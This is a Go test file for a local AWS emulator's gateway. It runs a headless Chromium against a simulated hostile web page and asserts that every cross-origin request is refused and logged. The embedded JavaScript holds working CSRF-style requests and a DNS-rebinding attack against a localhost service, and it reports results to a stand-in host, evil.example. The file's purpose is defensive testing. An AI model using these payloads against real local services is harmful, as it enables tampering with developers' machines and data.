package dataplane_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"sagehost/localaws"
)

// attacks are what a page of another origin tries. Each gives a word that it can tell the page's owner: what it could
// read, or that it could read nothing.
const attacks = `
const gateway = 'http://127.0.0.1:PORT';
const read = async (path, options) => {
	try {
		const answer = await fetch(path.startsWith('/') ? gateway + path : path, options);
		return answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + await answer.text();
	} catch (problem) { return problem.name; }
};
const send = (path, options) => read(path, {method: 'POST', mode: 'no-cors', ...options});
const loaded = (element, start) => new Promise(done => {
	element.onload = () => done('loaded');
	element.onerror = () => done('error');
	start();
});
const report = results => send('http://evil.example:OWN/report', {body: JSON.stringify(results)});
`

// evilPage is on another origin than the local AWS.
const evilPage = `<iframe name="frame"></iframe>
<form id="form" method="post" enctype="multipart/form-data" target="frame" action="http://127.0.0.1:PORT/models">
	<input name="key" value="model.tar.gz"><input name="file" value="weights">
</form>
<script>` + attacks + `
(async () => {
	const json = {'Content-Type': 'application/x-amz-json-1.1', 'X-Amz-Target': 'SageMaker.ListModels'};
	await report({
		preflight: await read('/', {method: 'POST', headers: json, body: '{}'}),
		put: await read('/models/x', {method: 'PUT', body: 'x'}),
		clock: await read('/_local/clock', {method: 'PUT', body: '{"speed": 2000}'}),
		list: await read('/models'),
		post: await send('/', {body: new URLSearchParams({Action: 'ListUsers', Version: '2010-05-08'})}),
		localhost: await send('http://localhost:PORT/moto-api/reset'),
		reset: await send('/moto-api/reset'),
		crash: await send('/_local/sagemaker/endpoints/v1/crash?region=eu-west-1'),
		invoke: await send('/endpoints/v1/invocations', {body: '1,2'}),
		form: await loaded(document.getElementsByName('frame')[0], () => document.getElementById('form').submit()),
		image: await (async () => { const i = new Image(); return loaded(i, () => i.src = gateway + '/models/image'); })(),
	});
	location = 'http://rebind.example:PORT/';
})();
</script>`

// reboundPage is on an origin whose name comes to stand for this machine once the page is loaded.
const reboundPage = `<script>` + attacks + `
(async () => {
	// Connections that were open before still lead to the server of the page.
	const ask = async (path, options) => {
		let answer;
		do { answer = await fetch(path, options); } while (answer.headers.has('X-Page'));
		return answer.status + ' ' + await answer.text();
	};
	await fetch('/rebind');
	await report({
		list: await ask('/models'),
		reset: await ask('/moto-api/reset', {method: 'POST'}),
		clock: await ask('/_local/clock', {method: 'PUT', body: '{"speed": 2000}'}),
	});
})();
</script>`

// attacker serves the pages, and what is reached by the name of the second until that is bound to the local AWS.
type attacker struct {
	own, name net.Listener
	bound     atomic.Bool
	reports   chan map[string]string
}

func newAttacker(t *testing.T, gateway string) *attacker {
	t.Helper()
	a := &attacker{reports: make(chan map[string]string)}
	for _, listener := range []*net.Listener{&a.own, &a.name} {
		var err error
		*listener, err = net.Listen("tcp", "127.0.0.1:0")
		require.NoError(t, err)
	}
	fill := strings.NewReplacer("PORT", portOf(gateway), "OWN", portOf(a.own.Addr().String()))
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		page := evilPage
		if strings.HasPrefix(r.Host, "rebind.example") {
			page = reboundPage
		}
		_, _ = fill.WriteString(w, page)
	})
	mux.HandleFunc("GET /favicon.ico", http.NotFound)
	mux.HandleFunc("GET /rebind", func(http.ResponseWriter, *http.Request) { a.bound.Store(true) })
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		var results map[string]string
		if err := json.NewDecoder(r.Body).Decode(&results); err != nil {
			results = map[string]string{"report": err.Error()}
		}
		a.reports <- results
	})
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Page", "yes")
		mux.ServeHTTP(w, r)
	})}
	// Each request gets a connection, and so whatever the name stands for then.
	server.SetKeepAlivesEnabled(false)
	go func() { _ = server.Serve(a.own) }()
	go a.forward(gateway)
	t.Cleanup(func() {
		_ = a.name.Close()
		assert.NoError(t, server.Close())
	})
	return a
}

// forward connects whoever asks for the name with what it stands for.
func (a *attacker) forward(gateway string) {
	for {
		client, err := a.name.Accept()
		if err != nil {
			return
		}
		to := a.own.Addr().String()
		if a.bound.Load() {
			to = gateway
		}
		server, err := net.Dial("tcp", to)
		if err != nil {
			_ = client.Close()
			continue
		}
		for _, way := range [][2]net.Conn{{client, server}, {server, client}} {
			go func() {
				_, _ = io.Copy(way[0], way[1])
				_ = way[0].Close()
			}()
		}
	}
}

func portOf(address string) string { return address[strings.LastIndex(address, ":")+1:] }

// browse opens the first page in a real browser, or skips the test with the reason.
func (a *attacker) browse(t *testing.T, gateway string) {
	t.Helper()
	var program string
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			program = found
			break
		}
	}
	if program == "" {
		t.Skip("there is no chromium, chromium-browser or google-chrome on the PATH; \"make browser\" installs one")
	}
	rules := fmt.Sprintf("MAP evil.example 127.0.0.1,MAP rebind.example:%s %s", portOf(gateway), a.name.Addr())
	browser := exec.Command(program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-dev-shm-usage", "--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules="+rules,
		// It stays until it is ended.
		"--remote-debugging-port=0", "http://evil.example:"+portOf(a.own.Addr().String())+"/")
	browser.Stderr = t.Output()
	require.NoError(t, browser.Start())
	t.Cleanup(func() {
		assert.NoError(t, browser.Process.Kill())
		_ = browser.Wait()
	})
}

func TestAPageInARealBrowserReachesNothing(t *testing.T) {
	t.Parallel()
	var log safeLog
	w := newWorld(t, func(o *localaws.Options) { o.Log = &log })
	w.serve("v1", told("v1"))
	gateway := strings.TrimPrefix(w.url, "http://")
	a := newAttacker(t, gateway)
	a.browse(t, gateway)

	const nothing, sent = "TypeError", "opaque"
	assert.Equal(t, map[string]string{
		"preflight": nothing, "put": nothing, "clock": nothing, "list": nothing,
		"post": sent, "localhost": sent, "reset": sent, "crash": sent, "invoke": sent, "form": "loaded", "image": "error",
	}, <-a.reports)
	refusal := "403 This local AWS answers programs on this machine at http://127.0.0.1:" + portOf(gateway) +
		", and no web page. Its log says why this request was refused.\n"
	assert.Equal(t, map[string]string{"list": refusal, "reset": refusal, "clock": refusal}, <-a.reports)

	evil := fmt.Sprintf(`: a web page asks, Origin "http://evil.example:%s"`, portOf(a.own.Addr().String()))
	rebound := fmt.Sprintf(`: Host "rebind.example:%s" is not a loopback address with port %[1]s`, portOf(gateway))
	assert.ElementsMatch(t, []string{
		`"OPTIONS" "/"` + evil, `"OPTIONS" "/models/x"` + evil, `"OPTIONS" "/_local/clock"` + evil, `"GET" "/models"` + evil,
		`"POST" "/"` + evil, `"POST" "/moto-api/reset"` + evil, `"POST" "/moto-api/reset"` + evil,
		`"POST" "/_local/sagemaker/endpoints/v1/crash?region=eu-west-1"` + evil,
		`"POST" "/endpoints/v1/invocations"` + evil, `"POST" "/models"` + evil,
		`"GET" "/models/image": a web page asks, Sec-Fetch-Site "cross-site"`,
		`"GET" "/models"` + rebound, `"POST" "/moto-api/reset"` + rebound, `"PUT" "/_local/clock"` + rebound,
	}, log.refusals())

	// Nothing has happened: the bucket is there and empty, and the endpoint serves.
	assert.Empty(t, w.keys(""))
	assert.Equal(t, 1.0, w.clock.Speed())
	w.assertAnswer("v1", "v1", "anything")
}

// refusals are the requests that the gateway has refused, but for the icons that a browser asks for by itself.
func (l *safeLog) refusals() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var list []string
	for line := range strings.Lines(l.text.String()) {
		if refused, found := strings.CutPrefix(line, "gateway: refused "); found && !strings.Contains(line, "favicon.ico") {
			list = append(list, strings.TrimSuffix(refused, "\n"))
		}
	}
	slices.Sort(list)
	return list
}
